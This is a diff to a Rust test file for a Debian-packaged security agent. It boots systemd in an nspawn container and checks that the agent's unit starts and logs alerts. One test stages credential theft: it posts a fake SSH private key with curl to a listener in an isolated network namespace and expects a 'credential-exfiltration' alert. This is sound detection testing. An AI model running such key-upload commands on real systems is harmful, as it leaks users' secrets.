@@ -1,11 +1,12 @@
 //! The Debian package `cargo xtask package` builds: its files and modes, control fields and
 //! conffile, the unit (`systemd-analyze verify`), the packaged configuration and
-//! `check-config` on it and on broken files, the manual pages, and the unit's capability
-//! bounding set running the packaged agent.
+//! `check-config` on it and on broken files, the manual pages, the unit's capability bounding
+//! set running the packaged agent, and the unit run by systemd.
 //!
-//! This machine's PID 1 is not systemd, so no unit can be started here: the package is
-//! unpacked with `dpkg-deb -x` into a temporary root, the unit verified against it, and the
-//! agent run the way the unit limits it (`setpriv` with the unit's bounding set).
+//! This machine's PID 1 is not systemd: the package is unpacked with `dpkg-deb -x` into a
+//! temporary root, the unit verified against it, the agent run the way the unit limits it
+//! (`setpriv` with the unit's bounding set), and a systemd booted in a container
+//! (`systemd-nspawn`) from this host's own tree with the package's files overlaid runs the unit.
 
 use std::collections::BTreeMap;
 use std::ffi::OsString;
@@ -443,5 +444,139 @@ fn without_cap_sys_admin_the_agent_refuses_to_start_with_exit_2() -> Result<()> 
     let stderr = String::from_utf8_lossy(&refused.stderr);
     assert_eq!(refused.status.code(), Some(2), "{stderr}");
     assert!(stderr.contains("perf_event_open") && !stderr.contains("panicked"), "{stderr}");
+    Ok(())
+}
+
+/// A container booted by systemd from this host's own tree (`systemd-nspawn --volatile=yes`:
+/// a fresh `/etc` and `/var`, `/usr` read-only) with the package's files overlaid, so that the
+/// real systemd runs the real unit. Dropping it powers the container off.
+struct BootedContainer {
+    nspawn: std::process::Child,
+    init: u32,
+    _overlay: TempDir,
+}
+
+impl BootedContainer {
+    /// Boots it and waits for `vigie.service` (enabled by the first boot's presets) to settle.
+    fn boot(package: &Package) -> Result<Self> {
+        // The package's /usr and /lib (a link to usr/lib on Debian) as one tree over /usr.
+        let overlay = tempfile::tempdir()?;
+        for (from, to) in [("usr/sbin", "sbin"), ("usr/share", "share"), ("lib/systemd", "lib/systemd")] {
+            fs::create_dir_all(overlay.path().join(to).parent().context("a parent")?)?;
+            run(Command::new("cp").arg("-a").arg(package.path(from)).arg(overlay.path().join(to)))?;
+        }
+        let nspawn = Command::new("systemd-nspawn")
+            .args(["--quiet", "--directory=/", "--volatile=yes", "--register=no", "--keep-unit"])
+            .args(["--private-network", "--capability=all"])
+            .arg(format!("--machine=vigie-package-{}", std::process::id()))
+            // nspawn's own seccomp filter refuses bpf() in the container: allow what the agent calls.
+            .arg("--system-call-filter=bpf perf_event_open fanotify_init fanotify_mark")
+            .arg(format!("--overlay-ro=/usr:{}:/usr", overlay.path().display()))
+            .arg(format!("--bind-ro={}:/etc/vigie", package.path("etc/vigie").display()))
+            .args(["--boot", "--", "systemd.firstboot=off"])
+            .stdin(Stdio::null())
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .spawn()
+            .context("start systemd-nspawn")?;
+        let mut container = BootedContainer { init: 0, nspawn, _overlay: overlay };
+        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(90);
+        loop {
+            if container.init == 0 {
+                container.init = container_init(container.nspawn.id()).unwrap_or(0);
+            }
+            // Active, and past the start-up: the agent said `sensor-started`.
+            if container.init != 0 {
+                let state = container.shell(
+                    "systemctl is-active vigie; journalctl -u vigie -o cat --no-pager | grep -c sensor-started",
+                )?;
+                if state.starts_with("active\n") && !state.ends_with("\n0\n") {
+                    return Ok(container);
+                }
+            }
+            ensure!(container.nspawn.try_wait()?.is_none(), "the container exited while booting");
+            ensure!(std::time::Instant::now() < deadline, "vigie.service did not become active at boot");
+            std::thread::sleep(std::time::Duration::from_millis(500));
+        }
+    }
+
+    /// `sh -c SCRIPT` inside the container; its stdout, whatever its exit code.
+    fn shell(&self, script: &str) -> Result<String> {
+        let output = Command::new("nsenter")
+            .arg("--target")
+            .arg(self.init.to_string())
+            .args(["--all", "sh", "-c", script])
+            .stdin(Stdio::null())
+            .output()?;
+        Ok(String::from_utf8_lossy(&output.stdout).into_owned())
+    }
+}
+
+/// The container's systemd: the first descendant of nspawn (which forks twice) called `systemd`.
+fn container_init(pid: u32) -> Option<u32> {
+    let children = fs::read_to_string(format!("/proc/{pid}/task/{pid}/children")).ok()?;
+    children.split_whitespace().filter_map(|c| c.parse().ok()).find_map(|child: u32| {
+        let comm = fs::read_to_string(format!("/proc/{child}/comm")).ok()?;
+        if comm.trim() == "systemd" {
+            Some(child)
+        } else {
+            container_init(child)
+        }
+    })
+}
+
+impl Drop for BootedContainer {
+    fn drop(&mut self) {
+        // SIGTERM asks nspawn to power the container off; it is killed if that hangs.
+        let pid = libc::pid_t::try_from(self.nspawn.id()).unwrap_or(0);
+        // SAFETY: a plain syscall on our own child, not yet reaped.
+        unsafe { libc::kill(pid, libc::SIGTERM) };
+        for _ in 0..100 {
+            if self.nspawn.try_wait().ok().flatten().is_some() {
+                return;
+            }
+            std::thread::sleep(std::time::Duration::from_millis(100));
+        }
+        let _ = self.nspawn.kill();
+        let _ = self.nspawn.wait();
+    }
+}
+
+#[test]
+#[ignore = "builds the release package and needs root: run with cargo xtask test"]
+fn systemd_runs_the_unit_at_boot_and_its_alert_reaches_the_journal() -> Result<()> {
+    let package = package()?;
+    let container = BootedContainer::boot(package)?;
+    let status = container.shell("systemctl show vigie -p ExecMainPID -p NRestarts")?;
+    assert!(status.contains("NRestarts=0"), "started once, no restart: {status}");
+    // A secret of the default profile, and a host in a namespace made in the container.
+    let story = container.shell(
+        "mkdir -p /root/.ssh && echo 'not a real key, only for the test' > /root/.ssh/id_test
+         chmod 600 /root/.ssh/id_test
+         ip netns add remote && ip link add vigie0 type veth peer name eth0 netns remote
+         ip addr add 10.213.7.1/24 dev vigie0 && ip link set vigie0 up
+         ip -n remote addr add 10.213.7.2/24 dev eth0 && ip -n remote link set eth0 up
+         ip netns exec remote timeout 20 socat -u TCP-LISTEN:8080,reuseaddr OPEN:/dev/null &
+         sleep 1
+         curl -s -m 5 --data-binary @/root/.ssh/id_test http://10.213.7.2:8080/ -o /dev/null
+         for i in $(seq 50); do
+           journalctl -u vigie -o cat --no-pager | grep -q credential-exfiltration && break; sleep 0.2
+         done
+         journalctl -u vigie -o cat --no-pager | grep credential-exfiltration
+         systemctl stop vigie
+         journalctl -u vigie -o cat --no-pager | grep -q sensor-stopped && echo stopped-cleanly
+         systemctl show vigie -p Result -p ExecMainStatus
+         ip netns del remote",
+    )?;
+    let alert = story.lines().find(|l| l.contains("credential-exfiltration")).context(story.clone())?;
+    let alert: Value = serde_json::from_str(alert)?;
+    assert_eq!(alert::file_path(&alert), Some("/root/.ssh/id_test"), "{alert:#}");
+    assert_eq!(alert["process"]["name"], "curl", "{alert:#}");
+    assert!(
+        story.contains("stopped-cleanly")
+            && story.contains("Result=success")
+            && story.contains("ExecMainStatus=0"),
+        "a clean stop, sensor-stopped in the journal: {story}"
+    );
     Ok(())
 }
